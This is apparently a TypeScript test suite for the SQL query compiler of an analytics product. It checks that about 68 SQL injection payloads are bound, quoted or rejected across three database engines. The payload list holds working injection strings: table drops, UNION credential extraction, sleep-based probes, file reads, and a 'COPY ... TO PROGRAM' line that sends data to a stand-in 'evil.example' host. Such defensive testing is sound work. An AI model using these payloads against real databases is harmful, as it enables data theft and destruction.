import { TesseraError } from '@tessera/contracts';
import { getDialect, type EngineName } from '../dialects';
import { compileQuery } from '../query/compiler/query.compiler';
import { birthNames, NOW, query } from '../query/compiler/testing/birth-names.fixture';
import { lexProfilesFor } from './sql-lex.profiles';
import { significantTokens, tokenizeSql } from './sql.tokenizer';

/**
 * Injection payloads. Each is pushed through every channel a client controls: filter values (must
 * only ever travel as bound parameters), names (columns, filter columns, orderby, labels: rejected
 * or quoted), and custom SQL (metrics, columns, WHERE, HAVING, orderby metrics: rejected).
 */
const PAYLOADS = [
  "' OR 1=1 --",
  "' OR '1'='1' --",
  "admin'--",
  "' OR 1=1#",
  "'; DROP TABLE birth_names; --",
  '1; DROP TABLE birth_names',
  '1); DROP TABLE birth_names; --',
  "1'; DELETE FROM birth_names WHERE 1=1; --",
  "'; INSERT INTO users VALUES ('x', 'y'); --",
  "'; UPDATE users SET role = 'admin'; --",
  "'; EXEC xp_cmdshell('dir'); --",
  "'; WAITFOR DELAY '0:0:5' --",
  '1 UNION SELECT username, password FROM users',
  "' UNION SELECT NULL, version() --",
  '1 UNION ALL SELECT table_name FROM information_schema.tables',
  '1 AND (SELECT COUNT(*) FROM pg_user) > 0',
  'EXISTS(SELECT 1 FROM pg_shadow)',
  '(SELECT current_user)',
  'CAST((SELECT password FROM users LIMIT 1) AS INT)',
  "1' AND extractvalue(1, concat(0x7e, (SELECT version()))) --",
  'updatexml(1, concat(0x7e, (SELECT user())), 1)',
  'pg_sleep(10)',
  '1 AND pg_sleep(5) IS NULL',
  "'; SELECT pg_sleep(5); --",
  'SLEEP(5)',
  "BENCHMARK(1000000, MD5('a'))",
  "1 INTO OUTFILE 'pwned.txt'",
  "' INTO DUMPFILE 'out.txt' --",
  "LOAD_FILE('secrets.txt')",
  "pg_read_file('secrets.txt')",
  "lo_import('secrets.txt')",
  "dblink('host=evil', 'select 1')",
  "set_config('log_statement', 'all', false)",
  "current_setting('data_directory')",
  "query_to_xml('select * from users', true, true, '')",
  "read_csv('secrets.txt')",
  "getenv('HOME')",
  "COPY (SELECT 1) TO 'out.txt'",
  "1; COPY birth_names TO PROGRAM 'curl evil.example'",
  "ATTACH 'evil.db' AS evil",
  'PRAGMA database_list',
  'SET statement_timeout = 0',
  'GRANT ALL ON birth_names TO public',
  'CALL dangerous()',
  '/**/OR/**/1=1',
  '1/**/UNION/**/SELECT/**/1',
  '/*! UNION SELECT 1 */',
  '1 --\nOR 1=1',
  'a" FROM birth_names; --',
  'x") OR 1=1 --',
  '`) OR 1=1 -- ',
  "\\'; DROP TABLE birth_names; --",
  "\\\\'; DROP TABLE birth_names; --",
  '%27 OR 1=1 --',
  '\uff07 OR 1=1 --',
  '\u02bc OR \u02bc1\u02bc=\u02bc1',
  '\u2019; DROP TABLE birth_names',
  '$$a$$ || (SELECT password FROM users)',
  '$a$x$a$; DROP TABLE birth_names',
  "E'\\\\'; DROP TABLE birth_names; --'",
  '1 OR 1=1)) --',
  '((SELECT 1))',
  'num = $1 OR num = ?',
  "name = 'a' OR 1=1 -- '",
  'name\u0000; DROP TABLE x',
  '1 AND 1=CONVERT(int, (SELECT @@version))',
  '(FROM duckdb_secrets())',
  '(TABLE pg_authid)',
] as const;

const ENGINES: EngineName[] = ['postgresql', 'duckdb', 'mysql'];
const FRAGMENT_ERRORS = ['INVALID_SQL_ERROR', 'ADHOC_SUBQUERY_NOT_ALLOWED_ERROR', 'INVALID_PAYLOAD_SCHEMA_ERROR'];

/** The compiled text is one statement: no `;`, comment or stray character outside literals, and balanced parentheses. */
function expectSingleStatement(sql: string, engine: EngineName, selects = 1): void {
  const tokens = significantTokens(tokenizeSql(sql, lexProfilesFor(engine)[0]));
  expect(tokens.filter((token) => ['semicolon', 'line_comment', 'block_comment', 'other'].includes(token.kind))).toEqual([]);
  let depth = 0;
  for (const token of tokens) {
    depth += token.kind === 'open_paren' ? 1 : token.kind === 'close_paren' ? -1 : 0;
    expect(depth).toBeGreaterThanOrEqual(0);
  }
  expect(depth).toBe(0);
  expect(tokens.filter((token) => token.kind === 'word' && token.text.toUpperCase() === 'SELECT')).toHaveLength(selects);
}

function compile(engine: EngineName, fields: Record<string, unknown>) {
  return compileQuery(query(fields), birthNames(engine), { now: NOW });
}

function rejected(run: () => unknown): TesseraError {
  try {
    run();
  } catch (error) {
    if (error instanceof TesseraError) return error;
    throw error;
  }
  throw new Error('accepted');
}

describe('injection corpus', () => {
  it('has at least 60 distinct payloads', () => {
    expect(new Set(PAYLOADS).size).toBe(PAYLOADS.length);
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(60);
  });

  describe.each(ENGINES)('on %s', (engine) => {
    const dialect = getDialect(engine);
    const values = PAYLOADS.filter((payload) => !payload.includes('\u0000'));

    it.each(['==', '!=', '>', '<=', 'LIKE', 'NOT LIKE', 'ILIKE', 'NOT ILIKE', 'REGEX'])('binds filter values for %s', (op) => {
      for (const payload of values) {
        const compiled = compile(engine, { columns: ['gender'], metrics: ['count'], filters: [{ col: 'name', op, val: payload }] });
        expect(compiled.sql).not.toContain(payload);
        expect(compiled.params).toEqual([payload]);
        expectSingleStatement(compiled.sql, engine);
        expectSingleStatement(compiled.displaySql, engine);
        expect(compiled.displaySql).toContain(dialect.quoteLiteral(payload));
      }
    });

    it('binds IN / NOT IN lists and numeric-column values', () => {
      for (const payload of values) {
        const compiled = compile(engine, {
          columns: ['gender'],
          metrics: ['count'],
          filters: [
            { col: 'state', op: 'IN', val: [payload, 'CA', null] },
            { col: 'gender', op: 'NOT IN', val: [payload] },
            { col: 'num', op: '==', val: payload },
          ],
        });
        expect(compiled.sql).not.toContain(payload);
        expect(compiled.params).toEqual([payload, 'CA', payload]);
        expectSingleStatement(compiled.sql, engine);
        expectSingleStatement(compiled.displaySql, engine);
      }
    });

    it('rejects payloads as time ranges before they reach SQL', () => {
      for (const payload of PAYLOADS) {
        const error = rejected(() =>
          compile(engine, { columns: ['gender'], metrics: ['count'], filters: [{ col: 'ds', op: 'TEMPORAL_RANGE', val: payload }] }),
        );
        expect(error.code).toBe('BAD_REQUEST');
      }
    });

    it('reports unknown filter columns instead of using them', () => {
      for (const payload of values) {
        const compiled = compile(engine, { columns: ['gender'], metrics: ['count'], filters: [{ col: payload, op: '==', val: 'x' }] });
        expect(compiled.sql).not.toContain(payload);
        expect(compiled.rejectedFilters).toEqual([{ reason: 'not_in_datasource', column: payload }]);
      }
    });

    it('rejects unknown column and orderby names', () => {
      for (const payload of values) {
        expect(rejected(() => compile(engine, { columns: [payload], metrics: ['count'] })).errorType).toBe('COLUMN_DOES_NOT_EXIST_ERROR');
        expect(rejected(() => compile(engine, { columns: ['gender'], metrics: ['count'], orderby: [[payload, true]] })).message).toBe(
          `Unknown column used in orderby: ${payload}`,
        );
        expect(rejected(() => compile(engine, { columns: ['gender'], metrics: [payload] })).message).toBe(
          `Metric '${payload}' does not exist`,
        );
      }
    });

    it('quotes labels and dataset names as identifiers', () => {
      for (const payload of values) {
        const compiled = compile(engine, {
          columns: [{ label: payload, sqlExpression: 'name' }],
          metrics: [{ expressionType: 'SIMPLE', aggregate: 'SUM', column: { column_name: 'num' }, label: `${payload} total` }],
          orderby: [[payload, true]],
        });
        expectSingleStatement(compiled.sql, engine);
        expect(compiled.columns).toEqual([payload, `${payload} total`]);
        const dataset = birthNames(engine, {
          tableName: payload,
          schema: payload,
          columns: [{ columnName: payload, type: 'VARCHAR', isDttm: false, filterable: true, groupby: true }],
        });
        const raw = compileQuery(query({ columns: [payload], filters: [{ col: payload, op: '==', val: 'x' }] }), dataset, { now: NOW });
        expectSingleStatement(raw.sql, engine);
      }
    });

    it('rejects NUL characters in names and labels', () => {
      const payload = 'name\u0000; DROP TABLE x';
      expect(rejected(() => compile(engine, { columns: [payload] })).errorType).toBe('INVALID_PAYLOAD_SCHEMA_ERROR');
      expect(rejected(() => compile(engine, { columns: [{ label: payload, sqlExpression: 'name' }] })).errorType).toBe(
        'INVALID_PAYLOAD_SCHEMA_ERROR',
      );
    });

    it.each([
      ['adhoc SQL metrics', (sql: string) => ({ columns: ['gender'], metrics: [{ expressionType: 'SQL', sqlExpression: sql }] })],
      ['adhoc SQL columns', (sql: string) => ({ columns: [{ label: 'x', sqlExpression: sql }], metrics: ['count'] })],
      ['WHERE', (sql: string) => ({ columns: ['gender'], metrics: ['count'], extras: { where: sql } })],
      ['HAVING', (sql: string) => ({ columns: ['gender'], metrics: ['count'], extras: { having: sql } })],
      [
        'orderby metrics',
        (sql: string) => ({ columns: ['gender'], metrics: ['count'], orderby: [[{ expressionType: 'SQL', sqlExpression: sql }, true]] }),
      ],
      [
        'adhoc filter columns',
        (sql: string) => ({
          columns: ['gender'],
          metrics: ['count'],
          filters: [{ col: { sqlExpression: sql, label: 'c' }, op: '==', val: 1 }],
        }),
      ],
    ])('rejects every payload as %s', (_channel, build) => {
      const accepted = PAYLOADS.filter((payload) => {
        try {
          compile(engine, build(payload));
          return true;
        } catch (error) {
          expect(error).toBeInstanceOf(TesseraError);
          expect((error as TesseraError).code).toBe('BAD_REQUEST');
          expect(FRAGMENT_ERRORS).toContain((error as TesseraError).errorType);
          return false;
        }
      });
      expect(accepted).toEqual([]);
    });
  });
});
